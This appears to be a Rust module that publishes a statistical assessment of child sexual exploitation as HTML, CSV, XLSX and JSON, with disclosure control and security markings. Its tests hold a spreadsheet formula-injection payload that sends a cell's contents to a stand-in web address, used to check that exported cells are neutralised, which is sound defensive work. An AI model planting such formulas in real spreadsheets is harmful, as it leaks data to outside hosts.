//! What do we publish? The assessment as one self-contained HTML report (inline CSS and SVG,
//! no scripts), every table as CSV and in one XLSX workbook, and the figure objects as
//! published (`figures.json`) — all after disclosure control unless the output is restricted.
//!
//! Published output is marked OFFICIAL; restricted output (no suppression, for authorised
//! analysts) is marked OFFICIAL-SENSITIVE on every page and in every file. Before anything is
//! written, the disclosure checker runs over all tables together and publication is refused if
//! any hidden value can be worked out.

mod charts;
pub use charts::thousands;
pub mod hidden;
mod html;
pub mod tables;

use serde::Serialize;
use sightline_assess::Assessment;
use sightline_assess::figure::{Figure, Status};
use sightline_disclosure::{Rules, Shown};
use sightline_standard::cells;
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use tables::Published;

#[derive(Debug, thiserror::Error)]
pub enum PublishError {
    #[error("disclosure check failed, nothing was written: {0}")]
    Disclosure(String),
    #[error("cannot write {path}: {message}")]
    Write { path: String, message: String },
}

#[derive(Debug, Clone, Copy, Default)]
pub struct Options {
    pub rules: Rules,
    /// No suppression; every page and file marked OFFICIAL-SENSITIVE.
    pub restricted: bool,
    /// The workspace's audit log when the report was made, printed in the methodology so that
    /// a later rewrite of the log can be compared with what was published.
    pub audit_head: Option<AuditHead>,
}

/// The last event of the audit log: its sequence number and its MAC (HMAC-SHA-256).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct AuditHead {
    pub seq: i64,
    pub mac: [u8; 32],
}

impl Options {
    /// The rules actually applied: restricted output hides nothing.
    pub fn effective_rules(&self) -> Rules {
        if self.restricted {
            Rules::NONE
        } else {
            self.rules
        }
    }

    pub fn marking(&self) -> &'static str {
        if self.restricted {
            "OFFICIAL-SENSITIVE"
        } else {
            "OFFICIAL"
        }
    }
}

/// A figure as published: n and base shown or hidden, and the share only when both are shown.
#[derive(Debug, Clone, Serialize)]
pub struct PublishedFigure {
    pub id: String,
    pub label: String,
    pub n: Shown,
    pub base: Shown,
    pub base_label: String,
    pub unknowns_in_base: bool,
    pub share: Option<f64>,
    pub ci95: Option<[f64; 2]>,
    pub bounds: Option<[f64; 2]>,
    /// The steps from the whole population to the base, each count under the same rules.
    pub funnel: Vec<PublishedStep>,
    pub status: Status,
    /// Which agencies could record it, when not every agency could.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub collection: Option<PublishedCollection>,
    /// What to say instead of a share (not collected, no data).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub statement: Option<String>,
}

/// Who could record a figure, as published: agencies are organisations and shown as they are;
/// the people left out are people, under the rules.
#[derive(Debug, Clone, Serialize)]
pub struct PublishedCollection {
    pub source: String,
    pub agencies: u64,
    pub of_agencies: u64,
    pub left_out: Shown,
    pub population_label: String,
}

impl PublishedCollection {
    /// "among victims known to the 41 agencies that returned the missing-episodes table".
    pub fn among(&self) -> String {
        sightline_assess::figure::among(&self.population_label, self.agencies, &self.source)
    }
}

#[derive(Debug, Clone, Serialize)]
pub struct PublishedStep {
    pub label: String,
    pub count: Shown,
}

/// Everything that will be written.
#[derive(Debug, Clone)]
pub struct Publication {
    pub options: Options,
    pub tables: Vec<Published>,
    pub figures: Vec<PublishedFigure>,
    /// Estimates (not counts): the victims no agency knows.
    pub estimates: Vec<hidden::PublishedEstimate>,
    pub html: String,
}

/// Builds the publication; refuses if the checker finds a recoverable hidden value.
pub fn publish(assessment: &Assessment, options: &Options) -> Result<Publication, PublishError> {
    let rules = options.effective_rules();
    let mut published = tables::tables(assessment, &rules, options.restricted);
    // n of a base: a complement of 1 to the threshold gives the small count away too.
    for table in &mut published {
        if table.n_of_base && tables::rules_for(&table.table.id, &rules).threshold > 0 {
            for (row, cells) in table.table.cells.iter().enumerate() {
                let complement = cells[1].saturating_sub(cells[0]);
                if !tables::showable(complement, &rules) {
                    table.protected.cells[row][0] = Shown::Hidden;
                }
            }
        }
    }
    if !options.restricted {
        let pairs: Vec<_> = published.iter().map(|p| (&p.table, &p.protected)).collect();
        let leaks = sightline_disclosure::check(&pairs);
        if let Some(leak) = leaks.first() {
            return Err(PublishError::Disclosure(format!(
                "{leak} ({} in all)",
                leaks.len()
            )));
        }
    }
    let figures = publish_figures(assessment, &published, &rules);
    let by_id: BTreeMap<&str, &PublishedFigure> =
        figures.iter().map(|f| (f.id.as_str(), f)).collect();
    let html = html::report(assessment, &published, &by_id, options);
    let estimates = vec![hidden::published_estimate(assessment, &published, &rules)];
    Ok(Publication {
        options: *options,
        tables: published,
        figures,
        estimates,
        html,
    })
}

fn publish_figures(a: &Assessment, tables: &[Published], rules: &Rules) -> Vec<PublishedFigure> {
    // Where each figure's n and base sit in a table.
    let mut placed: BTreeMap<&str, (Shown, Shown)> = BTreeMap::new();
    for table in tables {
        let known_row = table.table.subtotals.first().map(|(row, _)| *row);
        for (&(row, column), id) in &table.figures {
            let n = table.protected.cells[row][column];
            let base = if table.n_of_base {
                table.protected.cells[row][1]
            } else if known_row.is_some_and(|k| row < k) {
                table.protected.cells[known_row.unwrap_or(0)][column]
            } else {
                table.protected.grand_total.unwrap_or(Shown::Hidden)
            };
            placed.insert(id.as_str(), (n, base));
        }
    }
    let mut seen = std::collections::BTreeSet::new();
    let mut out = Vec::new();
    for figure in a.figures() {
        if !seen.insert(figure.id.clone()) {
            continue;
        }
        out.push(publish_figure(
            figure,
            placed.get(figure.id.as_str()).copied(),
            tables::rules_for(&figure.id, rules),
        ));
    }
    out
}

fn publish_figure(
    figure: &Figure,
    placed: Option<(Shown, Shown)>,
    rules: &Rules,
) -> PublishedFigure {
    let (n, base) = placed.unwrap_or_else(|| {
        let complement = figure.base.saturating_sub(figure.n);
        let n = if tables::showable(complement, rules) {
            tables::shown(figure.n, rules)
        } else {
            Shown::Hidden
        };
        (n, tables::shown(figure.base, rules))
    });
    let visible = !n.is_hidden() && !base.is_hidden();
    PublishedFigure {
        id: figure.id.clone(),
        label: figure.label.clone(),
        n,
        base,
        base_label: figure.base_label.clone(),
        unknowns_in_base: figure.unknowns_in_base,
        share: figure.share.filter(|_| visible),
        ci95: figure.ci95.filter(|_| visible),
        bounds: figure.bounds.filter(|_| visible),
        funnel: figure
            .funnel
            .iter()
            .map(|step| PublishedStep {
                label: step.label.clone(),
                // The base may be hidden in its table beyond the small-count rule.
                count: if step.count == figure.base {
                    base
                } else {
                    tables::shown(step.count, rules)
                },
            })
            .collect(),
        status: figure.status,
        collection: figure.collection.as_ref().map(|c| PublishedCollection {
            source: c.source.clone(),
            agencies: c.agencies,
            of_agencies: c.of_agencies,
            left_out: tables::shown(c.left_out, rules),
            population_label: c.population_label.clone(),
        }),
        statement: figure.statement.clone(),
    }
}

/// Writes `report.html`, `tables/*.csv`, `tables/tables.xlsx` and `figures.json` under `out`;
/// returns the paths written.
pub fn write(publication: &Publication, out: &Path) -> Result<Vec<PathBuf>, PublishError> {
    let fail = |path: &Path, e: &dyn std::fmt::Display| PublishError::Write {
        path: path.display().to_string(),
        message: e.to_string(),
    };
    let table_dir = out.join("tables");
    std::fs::create_dir_all(&table_dir).map_err(|e| fail(&table_dir, &e))?;
    let mut written = Vec::new();
    let report = out.join("report.html");
    std::fs::write(&report, &publication.html).map_err(|e| fail(&report, &e))?;
    written.push(report);
    let marking = publication.options.marking();
    let mut workbook = rust_xlsxwriter::Workbook::new();
    // A fixed creation date: the same assessment gives the same bytes.
    let xlsx = table_dir.join("tables.xlsx");
    let created =
        rust_xlsxwriter::ExcelDateTime::from_ymd(2025, 1, 1).map_err(|e| fail(&xlsx, &e))?;
    workbook.set_properties(
        &rust_xlsxwriter::DocProperties::new()
            .set_title(format!(
                "{marking}: child sexual exploitation, the national picture"
            ))
            .set_creation_datetime(&created),
    );
    for table in &publication.tables {
        let rows = table_rows(table);
        let path = table_dir.join(format!("{}.csv", table.table.id));
        let mut writer = csv::WriterBuilder::new()
            .flexible(true)
            .from_path(&path)
            .map_err(|e| fail(&path, &e))?;
        writer
            .write_record([format!("{marking}: {}", table.table.title)])
            .map_err(|e| fail(&path, &e))?;
        write_csv_rows(&mut writer, &rows).map_err(|e| fail(&path, &e))?;
        writer.flush().map_err(|e| fail(&path, &e))?;
        written.push(path);
        let sheet = workbook.add_worksheet();
        let name: String = table
            .table
            .id
            .chars()
            .map(|c| {
                if c.is_ascii_alphanumeric() || c == '_' {
                    c
                } else {
                    '_'
                }
            })
            .collect();
        let mut name = name;
        name.truncate(31);
        sheet.set_name(&name).map_err(|e| fail(&xlsx, &e))?;
        sheet
            .write_string(0, 0, format!("{marking}: {}", table.table.title))
            .map_err(|e| fail(&xlsx, &e))?;
        write_sheet_rows(sheet, 1, &rows).map_err(|e| fail(&xlsx, &e))?;
    }
    workbook.save(&xlsx).map_err(|e| fail(&xlsx, &e))?;
    written.push(xlsx);
    let figures = out.join("figures.json");
    let json = serde_json::json!({
        "marking": marking,
        "disclosure": {
            "restricted": publication.options.restricted,
            "threshold": publication.options.rules.threshold,
            "round": publication.options.rules.round,
        },
        "figures": publication.figures,
        "estimates": publication.estimates,
    });
    std::fs::write(
        &figures,
        serde_json::to_string_pretty(&json).unwrap_or_default() + "\n",
    )
    .map_err(|e| fail(&figures, &e))?;
    written.push(figures);
    Ok(written)
}

/// A table's rows as text: a header, then each row; `%` columns beside counts of tables with
/// shares of their total.
pub fn table_rows(table: &Published) -> Vec<Vec<String>> {
    let t = &table.table;
    let p = &table.protected;
    let mut header = vec![String::new()];
    header.extend(t.columns.iter().cloned());
    if !p.row_totals.is_empty() {
        header.push("Total".to_string());
    }
    let mut rows = vec![header];
    for (r, label) in t.rows.iter().enumerate() {
        let mut row = vec![label.clone()];
        row.extend(p.cells[r].iter().map(Shown::to_string));
        if let Some(total) = p.row_totals.get(r) {
            row.push(total.to_string());
        }
        rows.push(row);
    }
    if !p.column_totals.is_empty() {
        let mut row = vec!["Total".to_string()];
        row.extend(p.column_totals.iter().map(Shown::to_string));
        if let Some(grand) = p.grand_total.filter(|_| !p.row_totals.is_empty()) {
            row.push(grand.to_string());
        }
        rows.push(row);
    }
    rows
}

/// A table's rows as CSV records. Labels and group names may carry agencies' text: a cell a
/// spreadsheet would run is neutralised (`sightline_standard::cells`).
fn write_csv_rows<W: std::io::Write>(
    writer: &mut csv::Writer<W>,
    rows: &[Vec<String>],
) -> csv::Result<()> {
    for row in rows {
        let cells: Vec<_> = row.iter().map(|cell| cells::neutralise(cell)).collect();
        writer.write_record(cells.iter().map(|cell| cell.as_bytes()))?;
    }
    Ok(())
}

/// A table's rows into a sheet from row `first`: counts as numbers (after the label column);
/// text a spreadsheet would run if it were edited gets the quote prefix, which keeps the value
/// itself unchanged.
fn write_sheet_rows(
    sheet: &mut rust_xlsxwriter::Worksheet,
    first: u32,
    rows: &[Vec<String>],
) -> Result<(), rust_xlsxwriter::XlsxError> {
    let quoted = rust_xlsxwriter::Format::new().set_quote_prefix();
    for (r, row) in rows.iter().enumerate() {
        for (c, cell) in row.iter().enumerate() {
            let (r, c) = (first + r as u32, c as u16);
            match cell.parse::<f64>() {
                Ok(number) if c > 0 => sheet.write_number(r, c, number),
                _ if cells::needs_neutralising(cell) => {
                    sheet.write_string_with_format(r, c, cell, &quoted)
                }
                _ => sheet.write_string(r, c, cell),
            }?;
        }
    }
    Ok(())
}

#[cfg(test)]
mod formula_tests {
    use super::*;

    const FORMULA: &str = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")";

    fn rows() -> Vec<Vec<String>> {
        vec![
            vec![FORMULA.to_string(), "12".to_string()],
            vec!["@group".to_string(), "-3".to_string()],
            vec!["-".to_string(), "[c]".to_string()],
        ]
    }

    #[test]
    fn published_csv_neutralises_formulas_and_reads_back() {
        let mut writer = csv::Writer::from_writer(Vec::new());
        write_csv_rows(&mut writer, &rows()).expect("write");
        let bytes = writer.into_inner().expect("bytes");
        let text = String::from_utf8(bytes.clone()).expect("utf-8");
        assert!(text.contains("'=HYPERLINK"), "{text}");
        assert!(text.contains("'@group,-3"), "{text}");
        assert!(text.contains("'-,[c]"), "{text}");
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(&bytes[..]);
        let read: Vec<Vec<String>> = reader
            .records()
            .map(|r| {
                r.expect("a record")
                    .iter()
                    .map(|cell| cells::restore(cell).to_string())
                    .collect()
            })
            .collect();
        assert_eq!(read, rows());
    }

    #[test]
    fn published_workbook_quote_prefixes_formulas_and_keeps_values() {
        use calamine::Reader as _;
        let dir = tempfile::tempdir().expect("a temp dir");
        let path = dir.path().join("tables.xlsx");
        let mut workbook = rust_xlsxwriter::Workbook::new();
        write_sheet_rows(workbook.add_worksheet(), 0, &rows()).expect("write");
        workbook.save(&path).expect("save");
        let mut book: calamine::Xlsx<_> = calamine::open_workbook(&path).expect("open");
        let range = book.worksheet_range_at(0).expect("a sheet").expect("read");
        assert_eq!(
            range.get_value((0, 0)),
            Some(&calamine::Data::String(FORMULA.to_string()))
        );
        assert_eq!(range.get_value((1, 1)), Some(&calamine::Data::Float(-3.0)));
        // The cells that need it carry the quote prefix in their style.
        let mut styles = String::new();
        let file = std::fs::File::open(&path).expect("open");
        let mut archive = zip::ZipArchive::new(file).expect("a zip");
        std::io::Read::read_to_string(
            &mut archive.by_name("xl/styles.xml").expect("styles"),
            &mut styles,
        )
        .expect("read");
        assert!(styles.contains("quotePrefix=\"1\""), "{styles}");
    }
}
